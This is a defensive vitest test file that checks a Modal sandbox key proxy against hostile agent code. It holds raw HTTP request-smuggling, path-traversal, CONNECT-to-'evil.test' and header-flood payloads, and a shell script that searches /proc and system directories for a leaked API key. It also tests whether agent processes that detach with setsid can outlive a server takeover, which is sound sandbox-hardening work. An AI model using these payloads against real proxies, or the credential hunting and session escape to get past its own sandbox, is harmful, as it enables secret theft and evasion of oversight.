import { readdirSync, readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createModalSandboxProvider } from "../../src/sandboxes/modal/modal-sandbox-provider.js";
import type { Sandbox, SandboxProvider } from "../../src/sandboxes/sandbox-provider.js";
import { type FakeModalContainers, fakeModalContainers } from "./modal-fake-containers.js";

/*
 * Hostile agent code against the Modal key proxy: raw HTTP from the agent's
 * uid to the model's name (which `/etc/hosts` points at the proxy), trying
 * to get the key sent anywhere but a model API request to the model host,
 * or to make the proxy stop serving; and agent processes that try to
 * outlive a server taking the sandbox over. The real SDK against the fake
 * Modal API, whose containers run on this machine. Needs root and
 * `npm run build` (the runner bundle with `key-proxy.mjs`).
 */
const isRoot = process.getuid?.() === 0;
const TOKENS = { tokenId: "ak-key-proxy-attack", tokenSecret: "as-key-proxy-attack" };
const KEY = "sk-canary-modal-key-proxy-attack-7171";
const MODEL_HOST = "model.test";

interface Seen {
  readonly method: string;
  readonly path: string;
  readonly host: string | undefined;
  readonly key: string | undefined;
}

/** Runs `argv` as the agent in `sandbox`; resolves with its exit code and output. */
async function asAgent(sandbox: Sandbox, argv: string[], stdin?: string) {
  const child = sandbox.exec(argv);
  child.stdin.end(stdin);
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  child.stdout.on("data", (chunk: Buffer) => out.push(chunk));
  child.stderr.on("data", (chunk: Buffer) => err.push(chunk));
  const { code } = await child.exited;
  return { code, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") };
}

/**
 * A program for the agent: sends each raw request of stdin (a JSON array of
 * latin1 strings) on its own connection to `host:port`, and prints, per
 * request, the status lines it got back (or how the connection ended).
 */
const RAW_CLIENT = `
const net = require("node:net");
const [host, port] = process.argv.slice(1);
let input = "";
process.stdin.on("data", (c) => (input += c)).on("end", async () => {
  const results = [];
  for (const raw of JSON.parse(input)) {
    results.push(await new Promise((resolve) => {
      const socket = net.connect(Number(port), host);
      let got = "";
      const done = (how) => { socket.destroy(); resolve((got.match(/^HTTP\\/1\\.[01] \\d+/gm) ?? []).join(",") + "|" + how); };
      socket.setTimeout(3000, () => done("timeout"));
      socket.on("data", (d) => (got += d.toString("latin1")));
      socket.on("end", () => done("end"));
      socket.on("error", (e) => done(e.code));
      socket.write(Buffer.from(raw, "latin1"));
    }));
  }
  process.stdout.write(JSON.stringify(results));
});
`;

describe.skipIf(!isRoot)("Modal: the key proxy against hostile agent code", () => {
  let containers: FakeModalContainers;
  let upstream: Server;
  let port: number;
  const seen: Seen[] = [];

  beforeAll(async () => {
    upstream = createServer((req: IncomingMessage, res) => {
      seen.push({
        method: req.method ?? "",
        path: req.url ?? "",
        host: req.headers.host,
        key: req.headers["x-api-key"] as string | undefined,
      });
      req.resume();
      req.on("end", () => res.end("{}"));
    });
    await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
    port = (upstream.address() as AddressInfo).port;
    containers = await fakeModalContainers({ hosts: `127.0.0.1\tlocalhost\n127.0.0.1\t${MODEL_HOST}\n` });
    await containers.start(TOKENS);
  });
  afterAll(async () => {
    await containers?.close();
    await new Promise((resolve) => upstream?.close(resolve));
  });

  const provider = (): SandboxProvider =>
    createModalSandboxProvider({
      ...TOKENS,
      appName: "key-proxy-attack-test",
      workspaceDir: containers.workspaceDir,
      homeDir: containers.homeDir,
    });
  const network = () => ({
    allow: [`${MODEL_HOST}:${port}`],
    secrets: [
      {
        endpoint: `${MODEL_HOST}:${port}`,
        header: "x-api-key",
        value: KEY,
        paths: ["POST /v1/messages"],
      },
    ],
  });

  it("sends the key only with model API requests to the model host, whatever the request looks like, and keeps serving", async () => {
    const sandbox = await provider().create({ name: "key-proxy-attack-1", network: network() });
    try {
      const h = `${MODEL_HOST}:${port}`;
      const attacks: Record<string, string> = {
        absoluteForm: `POST http://evil.test/v1/messages HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 2\r\n\r\n{}`,
        absoluteFormModel: `POST http://${h}/v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 2\r\n\r\n{}`,
        connect: `CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n`,
        connectModel: `CONNECT ${h} HTTP/1.1\r\nHost: ${h}\r\n\r\n`,
        asterisk: `OPTIONS * HTTP/1.1\r\nHost: ${h}\r\n\r\n`,
        trace: `TRACE /v1/messages HTTP/1.1\r\nHost: ${h}\r\n\r\n`,
        getModelPath: `GET /v1/messages HTTP/1.1\r\nHost: ${h}\r\n\r\n`,
        dotSegments: `POST /v1/messages/../files HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\n\r\n`,
        encoded: `POST /v1/messages%2F..%2Ffiles HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\n\r\n`,
        doubleSlash: `POST //v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\n\r\n`,
        pipelined: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 2\r\n\r\n{}GET /v1/files HTTP/1.1\r\nHost: ${h}\r\n\r\n`,
        smuggleClTe: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n`,
        smuggleTeObfuscated: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n`,
        smuggleDoubleCl: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\nContent-Length: 39\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n`,
        obsFold: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nx-api-key: a\r\n b\r\nContent-Length: 0\r\n\r\n`,
        bareLf: `POST /v1/messages HTTP/1.1\nHost: ${h}\nContent-Length: 0\n\nGET /v1/files HTTP/1.1\nHost: x\n\n`,
        http10KeepAlive: `POST /v1/messages HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 2\r\n\r\n{}GET /v1/files HTTP/1.0\r\nConnection: keep-alive\r\n\r\n`,
        upgrade: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n`,
        hugeHeader: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nx-pad: ${"a".repeat(200_000)}\r\nContent-Length: 0\r\n\r\n`,
        manyHeaders: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\n${Array.from({ length: 3000 }, (_, i) => `x-h${i}: v\r\n`).join("")}Content-Length: 0\r\n\r\n`,
        tabInQuery: `POST /v1/messages?a\tb HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\n\r\n`,
        highBytePath: `POST /v1/messages\xff HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 0\r\n\r\n`,
        chunkExtensions: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nTransfer-Encoding: chunked\r\n\r\n2;ext=${"x".repeat(100_000)}\r\n{}\r\n0\r\n\r\n`,
        slowHalf: `POST /v1/messages HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 100\r\n\r\n{`,
      };
      const names = Object.keys(attacks);
      const attempt = await asAgent(
        sandbox,
        ["node", "-e", RAW_CLIENT, MODEL_HOST, String(port)],
        JSON.stringify(names.map((name) => attacks[name])),
      );
      expect(attempt).toMatchObject({ code: 0 });
      const results = Object.fromEntries(
        (JSON.parse(attempt.stdout) as string[]).map((result, i) => [names[i], result]),
      );
      // Whatever reached the model host with the key was a model API request, under the model's own name.
      const keyed = seen.filter((request) => request.key === KEY);
      expect({ results, keyed }).toMatchObject({
        keyed: keyed.map(() => ({ method: "POST", path: expect.stringMatching(/^\/v1\/messages(\?|$)/) })),
      });
      expect(keyed.every((request) => request.host === `${MODEL_HOST}:${port}`)).toBe(true);
      // Nothing without the key went through either: only covered requests are forwarded at all.
      expect(seen.filter((request) => request.key !== KEY)).toEqual([]);
      for (const name of [
        "connect",
        "connectModel",
        "absoluteForm",
        "trace",
        "getModelPath",
        "dotSegments",
      ]) {
        expect({ name, result: results[name] }).not.toMatchObject({
          result: expect.stringMatching(/^HTTP\/1\.1 200/),
        });
      }

      // The proxy still serves the model after all of it.
      const call = await asAgent(sandbox, [
        "curl",
        "-sS",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "-X",
        "POST",
        "--data",
        "{}",
        `http://${h}/v1/messages`,
      ]);
      expect(call.stdout).toBe("200");
      expect(seen.at(-1)).toMatchObject({ method: "POST", path: "/v1/messages", key: KEY });
    } finally {
      await sandbox.terminate();
    }
  }, 120_000);

  it("the agent finds the key in no file, descriptor, command line or status of the proxy it can open", async () => {
    const sandbox = await provider().create({ name: "key-proxy-attack-3", network: network() });
    try {
      const [pid] = readdirSync("/proc").filter((entry) => {
        try {
          const argv = readFileSync(`/proc/${entry}/cmdline`, "utf8").split("\0");
          const environ = readFileSync(`/proc/${entry}/environ`, "utf8");
          return (
            argv.includes("serve") &&
            argv.some((arg) => arg.endsWith("/key-proxy.mjs")) &&
            environ.includes(sandbox.id)
          );
        } catch {
          return false;
        }
      });
      expect(pid).toBeDefined();
      const script = [
        `for f in /proc/${pid}/cmdline /proc/${pid}/status /proc/${pid}/stat /proc/${pid}/maps /proc/${pid}/fd/0 /proc/${pid}/fd/1 /proc/${pid}/fd/2 /proc/${pid}/cwd/key-proxy.log /proc/${pid}/root/run/agent-runtime/hosts.image /run/agent-runtime/key-proxy.log /run/agent-runtime/hosts.image /proc/${pid}/task/${pid}/environ /proc/${pid}/task/${pid}/mem; do`,
        '  echo "== $f"; timeout 2 cat "$f" 2>&1 | head -c 65536; echo',
        "done",
        `ls -l /proc/${pid}/fd 2>&1`,
        // Whatever the agent's uid can read where a key could have been left (not /tmp: the fake's is this machine's).
        `grep -rsl --binary-files=text -- ${KEY} /run /dev/shm /etc /opt/agent-runtime ${containers.workspaceDir} ${containers.homeDir} 2>/dev/null | sed "s/^/key-in: /"; echo grep-done`,
      ].join("\n");
      const attempt = await asAgent(sandbox, ["sh", "-c", script]);
      expect(attempt.stdout).toContain("grep-done");
      expect(attempt.stdout).not.toContain("key-in:");
      expect(attempt.stdout).toContain("serve");
      expect(attempt.stdout).not.toContain(KEY);
      expect(attempt.stdout).toMatch(/fd\/0\n[^\n]*Permission denied/);
    } finally {
      await sandbox.terminate();
    }
  }, 120_000);

  it("a server taking the sandbox over stops every process of the agent's uid, also one that left its process group and cleared its environment", async () => {
    const first = await provider().create({ name: "key-proxy-attack-2", network: network() });
    const marker = `300.${Date.now() % 1_000_000}`;
    // A process that leaves the exec's session and drops the marker variable, as agent code may.
    const spawned = await asAgent(first, [
      "sh",
      "-c",
      `setsid -f env -i sleep ${marker} </dev/null >/dev/null 2>&1; echo started`,
    ]);
    expect(spawned.stdout).toContain("started");
    const survivors = () =>
      readdirSync("/proc")
        .filter((entry) => /^\d+$/.test(entry))
        .filter((entry) => {
          try {
            return readFileSync(`/proc/${entry}/cmdline`, "utf8") === `sleep\0${marker}\0`;
          } catch {
            return false;
          }
        });
    await vi.waitFor(() => expect(survivors()).toHaveLength(1), { timeout: 5000 });
    // The first server is gone without terminating its sandbox; a new one takes it over.
    const second = await provider().create({ name: "key-proxy-attack-2", network: network() });
    try {
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(survivors()).toEqual([]);
    } finally {
      await second.terminate();
      for (const pid of survivors()) process.kill(Number(pid), "SIGKILL");
    }
  }, 120_000);
});
